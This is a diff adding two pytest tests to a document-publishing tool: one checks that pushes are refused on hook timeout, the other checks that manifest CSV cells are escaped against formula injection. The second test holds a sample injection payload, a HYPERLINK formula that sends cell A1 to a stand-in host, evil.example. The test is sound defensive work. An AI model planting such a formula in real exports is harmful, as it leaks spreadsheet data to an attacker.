@@ -476,3 +476,36 @@ def test_truncated_object_is_named_as_a_corrupt_repository(central: Central) -> 
     res = _cli(b, "verify")
     assert res.exit_code == 2, res.output
     assert "git fsck" in res.output and "---" not in res.output
+
+
+def test_a_push_that_cannot_be_checked_in_time_is_refused(central: Central) -> None:
+    own = Central(init_server(central.base / "central-budget.git"), central.honest, central.base, central.published)
+    subprocess.run(["git", "-C", str(own.path), "config", "gkctl.hookTimeout", "0.01"], check=True)
+    b = central.clone("budget")
+    b.git("remote", "set-url", "origin", str(own.path))
+    assert "gkctl.hookTimeout" in _refused(own, b, "GK463")
+    assert own.refs() == ""
+
+
+# -- 6. CSV formula injection -------------------------------------------------------------------
+
+
+def test_manifest_csv_cells_cannot_start_a_formula(central: Central) -> None:
+    import csv
+
+    b = central.clone("csv")
+    title = '=HYPERLINK("http://evil.example/?q="&A1,"点击")'
+    rel = "docs/2026/2026-bgs-960.md"
+    write_doc(b.work, rel, id="2026-bgs-960", kind="非公文", doc_number="", category="工作信息", drafter="zhang",
+              formed="2026-11-16", basis=["社会广泛知晓"], title=title)  # fmt: skip
+    b.act("zhang")
+    commit(b.work, "拟稿", [rel])
+    b.approve_all(rel)
+    b.publish(rel)
+    out = b.work / "_site"
+    res = _cli(b, "build", "--out", str(out))
+    assert res.exit_code == 0, res.output
+    rows = list(csv.reader((out / "manifest.csv").read_text(encoding="utf-8-sig").splitlines()))
+    cells = [c for row in rows for c in row]
+    assert "'" + title in cells
+    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
